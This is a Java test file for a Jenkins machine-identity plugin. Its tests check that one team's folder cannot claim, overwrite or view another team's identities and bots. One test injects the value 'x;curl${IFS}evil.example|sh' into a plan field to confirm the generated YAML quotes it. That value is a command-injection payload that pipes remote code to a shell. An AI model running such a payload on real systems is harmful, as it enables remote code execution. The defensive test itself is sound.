// SPDX-FileCopyrightText: The machine-id authors
// SPDX-License-Identifier: Apache-2.0
package io.jenkins.plugins.machineid.setup;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertNotEquals;
import static org.junit.jupiter.api.Assertions.assertNull;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;

import com.cloudbees.hudson.plugins.folder.FakeFolder;
import hudson.model.FakeAgent;
import hudson.model.FakeRun;
import hudson.remoting.FakeChannel;
import io.jenkins.plugins.machineid.access.IdentityName;
import io.jenkins.plugins.machineid.config.Identity;
import io.jenkins.plugins.machineid.config.MachineIdConfiguration;
import io.jenkins.plugins.machineid.config.Settings;
import io.jenkins.plugins.machineid.folder.Defined;
import io.jenkins.plugins.machineid.folder.FolderIdentities;
import io.jenkins.plugins.machineid.folder.FolderIdentity;
import io.jenkins.plugins.machineid.folder.Folders;
import io.jenkins.plugins.machineid.issuer.BuildFacts;
import io.jenkins.plugins.machineid.issuer.BuildFactsReader;
import io.jenkins.plugins.machineid.issuer.StatementForm;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.concurrent.atomic.AtomicInteger;
import java.util.function.Supplier;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.EnumSource;

/** Somebody who may configure folder team-b, and nothing else, would be another team's bot. */
class FolderAttackTest {
    private static final List<String> WIDE = List.of("**", "team-b/**", "team-b/x", "*/x", "team-a/**");

    private final FakeAgent agent = new FakeAgent("a-folder", new FakeChannel(task -> null));

    @BeforeEach
    void allow() {
        Folders.allow("team-b", "team-b/**", "team-a", "team@b");
    }

    @AfterEach
    void forbid() {
        agent.delete();
        Folders.allow();
        jenkins.model.Jenkins.get().jobs = List.of();
    }

    private static FolderIdentity identity(String id, StatementForm form, String token) {
        FolderIdentity identity = new FolderIdentity(id, "main");
        identity.setForm(form.method());
        identity.setTokenName(token);
        return identity;
    }

    /** What would be signed for the build, with each identity that the policy gives it in its folder. */
    private List<Map<String, Object>> statements(StatementForm form, FakeRun run) {
        Settings settings = FolderIdentities.settings(run);
        BuildFacts facts = BuildFactsReader.of(run, agent.computer().getNode());
        return settings.identities().stream()
                .map(Identity::getId)
                .filter(name -> !IdentityName.folder(name).isEmpty())
                .filter(name -> settings.policy().allows(name, facts.job()))
                .map(name -> form.claims(facts, name))
                .toList();
    }

    /** The token resource of an identity, whoever's, that takes as much as it can. */
    private static AllowRules rules(StatementForm form, String identity) {
        return AllowRules.of(form, identity, WIDE, List.of("team-b/x", "team-b/x@api", "team-a/x"));
    }

    /** Names of other teams' things are free to be written: they change nothing of what is stated. */
    @ParameterizedTest
    @EnumSource(StatementForm.class)
    void a26AFolderIsNoOtherIdentityWhateverItIsCalled(StatementForm form) {
        Folders.administrator("api", "jenkins-api", "team-a/**");
        FakeFolder folder = Folders.folder(
                "team-b",
                identity("api-", form, "jenkins-api"),
                identity("team-a", form, "jenkins-api"),
                identity("team-a-api", form, "team-a-api"),
                identity(IdentityName.plain("team-a/api"), form, IdentityName.plain("team-a/api")));
        List<String> jobs = List.of("x", "x@api", "team-a", "api", "x@team-a");
        List<String> victims = List.of("api", "team-a/api", "team-a", "team-b/api", IdentityName.plain("team-a/api"));
        for (String job : jobs) {
            List<Map<String, Object>> statements = statements(form, Folders.run(folder, job));
            assertEquals(4, statements.size());
            for (Map<String, Object> claims : statements) {
                assertTrue(claims.get("sub").toString().contains("team-b"), claims.toString());
                for (String victim : victims) {
                    assertFalse(ClusterRules.take(form, rules(form, victim), victim, claims), victim + " " + claims);
                }
            }
        }
    }

    /** Else the test above would hold for whatever reason. */
    @ParameterizedTest
    @EnumSource(StatementForm.class)
    void theFoldersOwnResourceTakesItsJobs(StatementForm form) {
        FakeFolder folder = Folders.folder("team-b", identity("api", form, null));
        FakeRun run = Folders.run(folder, "x");
        Map<String, Object> claims = statements(form, run).get(0);
        assertTrue(ClusterRules.take(form, rules(form, "team-b/api"), "team-b/api", claims), claims.toString());
    }

    /** The identity is there before the administrator's, or comes by a config.xml afterwards. */
    @ParameterizedTest
    @EnumSource(StatementForm.class)
    void a26AnAdministratorsIdIsTakenByNoFolder(StatementForm form) {
        FakeFolder folder = Folders.folder("team-b", identity("api", form, "jenkins-api"));
        assertEquals(1, statements(form, Folders.run(folder, "x")).size());
        Folders.administrator("api", "jenkins-api", "**");
        assertEquals(List.of(), statements(form, Folders.run(folder, "x")));
    }

    /** An at sign begins the identity in the form for kubernetes: no name of a folder may make another one's out of it. */
    @Test
    void a26NamesWithSignsMeetNobodyElses() {
        List<String> names = List.of("r/i", "q@r/i", "r/i@x", "r:s/i", "r%3As/i", "i");
        List<String> jobs = List.of("n/x", "n/x@q", "n/x@r", "n/x@q@r", "n:m/x", "n/x:y");
        List<String> subjects = new ArrayList<>();
        for (String job : jobs) {
            for (String name : names) {
                BuildFacts facts = new BuildFacts("https://ci.example.com", job, 7, "", "", "", false, "", "", "", List.of());
                String subject = (String) StatementForm.KUBERNETES.claims(facts, name).get("sub");
                assertFalse(subjects.contains(subject), subject);
                // A rule is one colon with text around it: the cluster refuses others.
                assertEquals(4, subject.split(":", -1).length, subject);
                subjects.add(subject);
            }
        }
        FakeFolder folder = Folders.folder("team@b", identity("api", StatementForm.KUBERNETES, null));
        Object sub = statements(StatementForm.KUBERNETES, Folders.run(folder, "x")).get(0).get("sub");
        assertEquals("system:serviceaccount:team@b:x@team%40b/api", sub);
    }

    /** What an administrator of the cluster copies: no bot of others is overwritten, and what was chosen is said. */
    @Test
    void a26WhatIsToBeCreatedReplacesNoOthersBot() {
        Folders.administrator("team-b-api", "jenkins-team-b", "team-a/**");
        FolderIdentity asked = identity("api", StatementForm.GITLAB, "jenkins-team-b");
        asked.setRoles(List.of("editor"));
        FakeFolder folder = Folders.folder("team-b", asked);
        jenkins.model.Jenkins.get().jobs = List.of(folder);
        Settings own = MachineIdConfiguration.get().settings();
        List<Defined> defined = FolderIdentities.everywhere(own);
        Plans plans = new Plans(FolderIdentities.seen(defined, own), () -> "{}", List.of("team-a/x", "team-b/x"), List.of());
        IdentitySetup setup = IdentitySetup.of(plans, defined.get(0));
        assertEquals("team-b/api", setup.getId());
        String bot = IdentityName.plain("team-b/api");
        assertNotEquals("team-b-api", bot);
        assertTrue(setup.getYaml().contains("bot_name: " + bot + "\n"), setup.getYaml());
        assertFalse(setup.getYaml().contains(": team-b-api\n"), setup.getYaml());
        assertTrue(setup.getYaml().contains("has chosen the roles"), setup.getYaml());
        assertTrue(setup.getYaml().contains("has chosen the name jenkins-team-b"), setup.getYaml());
        assertFalse(setup.getYaml().contains("team-a"), setup.getYaml());
        assertTrue(setup.getYaml().contains("environment: \"team-b/api\""), setup.getYaml());
        assertEquals(List.of("jenkins-team-b (cluster main)", "jenkins-team-b (cluster main)"), Plans.keyHolders(plans.settings()));
    }

    /** Administrators paste what they are told to check. */
    @Test
    void a26WhatIsToBeCheckedIsNoOtherCommand() {
        Plan.Signed signed = new Plan.Signed(
                StatementForm.GITLAB, "a", "i", "{}", AllowRules.of(StatementForm.GITLAB, "team-b/api", WIDE, List.of()), List.of());
        Plan plan = new Plan("team-b/api", List.of(), "jenkins", "x;curl${IFS}evil.example|sh", signed, null);
        String yaml = Yaml.of(Resources.tokenAndBot(plan));
        assertTrue(yaml.contains("'x;curl${IFS}evil.example|sh'\" first"), yaml);
        assertFalse(yaml.contains("token/x;"), yaml);
    }

    /** As with an administrator's: whoever fetches the public keys before the first build finds some. */
    @Test
    void aFolderThatIsLetNeedsKeysAndNoOtherDoes() {
        FakeFolder let = Folders.folder("team-b", identity("api", StatementForm.GITLAB, null));
        FakeFolder other = Folders.folder("team-c", identity("api", StatementForm.GITLAB, null));
        jenkins.model.Jenkins.get().jobs = List.of(other);
        assertFalse(KeysNeeded.isNeededBy(other));
        assertFalse(KeysNeeded.isNeededBy(MachineIdConfiguration.get()));
        jenkins.model.Jenkins.get().jobs = List.of(let, other);
        assertTrue(KeysNeeded.isNeededBy(let));
        assertTrue(KeysNeeded.isNeededBy(MachineIdConfiguration.get()));
        assertFalse(KeysNeeded.isNeededBy(new FakeFolder(let, "team-b/none")));
    }

    /** Its page shows the folder's own, and to nobody else. */
    @Test
    void a26AFoldersPageShowsNoOthersIdentities() {
        Folders.administrator("web", "jenkins-web", "**");
        FakeFolder folder = Folders.folder("team-b", identity("api", StatementForm.GITLAB, null));
        FakeFolder inner = Folders.below(folder, "team-b/inner", identity("api", StatementForm.GITLAB, null));
        jenkins.model.Jenkins.get().jobs = List.of(folder, inner, Folders.folder("team-a", identity("x", StatementForm.GITLAB, null)));
        FolderPage page = new FolderPage(folder);
        assertEquals(List.of("team-b/api"), page.getIdentities().stream().map(IdentitySetup::getId).toList());
        assertEquals("symbol-key", page.getIconFileName());
        assertEquals(page, page.getTarget());
        assertNull(new FolderPage(new FakeFolder(folder, "team-b/none")).getIconFileName());
        folder.configurable = false;
        assertNull(page.getIconFileName());
        assertThrows(SecurityException.class, page::getTarget);
    }

    /** Nothing of the folder's word says whom a statement is for. */
    @Test
    void a26AStatementIsForTheClusterThatLetsTheFolder() {
        FakeFolder folder = Folders.folder("team-b", identity("api", StatementForm.GITLAB, null));
        Settings settings = FolderIdentities.settings(Folders.run(folder, "x"));
        Identity identity = settings.identity("team-b/api");
        assertEquals(
                "teleport.example.com",
                identity.getJoin().statedFor(settings.cluster(identity.getCluster()).audience()));
    }

    /** A store of keys that is silent would keep whoever asks for a page, and its thread, once for each identity. */
    @Test
    void a26APageAsksForTheKeysOnce() {
        AtomicInteger asked = new AtomicInteger();
        Supplier<String> silent = Plans.once(() -> {
            asked.incrementAndGet();
            throw new IllegalStateException("silent");
        });
        for (int n = 0; n < 3; n++) {
            assertThrows(IllegalStateException.class, silent::get);
        }
        assertEquals(1, asked.get());
    }
}
